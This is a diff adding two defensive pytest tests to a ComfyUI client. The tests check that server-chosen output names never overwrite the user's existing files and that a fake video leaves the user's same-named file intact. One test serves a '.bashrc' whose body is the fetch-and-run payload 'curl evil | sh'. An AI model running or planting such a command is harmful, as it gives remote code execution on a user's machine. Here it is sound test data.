@@ -218,6 +218,51 @@ def test_output_names_from_the_server_stay_inside_the_output_dir(server: ComfyTe
     assert not list(tmp_path.glob("*.mp4"))
 
 
+def test_a_name_the_server_chose_never_replaces_a_file(server: ComfyTestServer,
+                                                      tmp_path: Path) -> None:
+    """Outputs named like files already in the output folder (the user's older video, a
+    dotfile) get fresh names: only a name the user gave replaces a file."""
+    def dotfile_too(item: dict[str, Any]) -> None:
+        ui = item["outputs"]["3"]
+        ui["images"] = [ui["images"][0], {**ui["images"][0], "filename": ".bashrc"}]
+        ui["animated"] = [True, False]
+
+    async def view(request: web.Request, handler: Handler) -> web.StreamResponse:
+        if request.rel_url.query["filename"] == ".bashrc":
+            return web.Response(body=b"curl evil | sh\n")
+        return await handler(request)
+
+    server.faults.tamper = either(on("/history/", rewrite_history(dotfile_too)),
+                                  on("/view", view))
+    out = tmp_path / "out"
+    out.mkdir()
+    (out / ".bashrc").write_bytes(b"mine\n")
+    (out / "hostile_00001_.mp4").write_bytes(b"my older video")
+    run = ComfyClient(server.url).run(free_graph(), output_dir=out, timeout=30)
+    assert sorted(path.name for path in run.files.values()) == [
+        ".bashrc (1)", "hostile_00001_ (1).mp4"]
+    assert (out / ".bashrc").read_bytes() == b"mine\n"
+    assert (out / "hostile_00001_.mp4").read_bytes() == b"my older video"
+    assert (out / ".bashrc (1)").read_bytes() == b"curl evil | sh\n"
+    assert sorted(p.name for p in out.iterdir()) == [  # nothing else left behind
+        ".bashrc", ".bashrc (1)", "hostile_00001_ (1).mp4", "hostile_00001_.mp4"]
+
+
+def test_a_video_that_fails_its_check_leaves_the_users_file_of_its_name(
+        server: ComfyTestServer, tmp_path: Path) -> None:
+    async def page(request: web.Request, handler: Handler) -> web.StreamResponse:
+        return web.Response(body=b"<!doctype html>", content_type="video/mp4")
+
+    server.faults.tamper = on("/view", page)
+    out = tmp_path / "out"
+    out.mkdir()
+    (out / "hostile_00001_.mp4").write_bytes(b"my older video")
+    with pytest.raises(OutputError):
+        ComfyClient(server.url).run(free_graph(), output_dir=out, timeout=30)
+    assert [(p.name, p.read_bytes()) for p in out.iterdir()] == [
+        ("hostile_00001_.mp4", b"my older video")]
+
+
 # --- malformed answers are typed errors ---------------------------------------------------------
 
 @pytest.mark.parametrize(("path", "body"), [
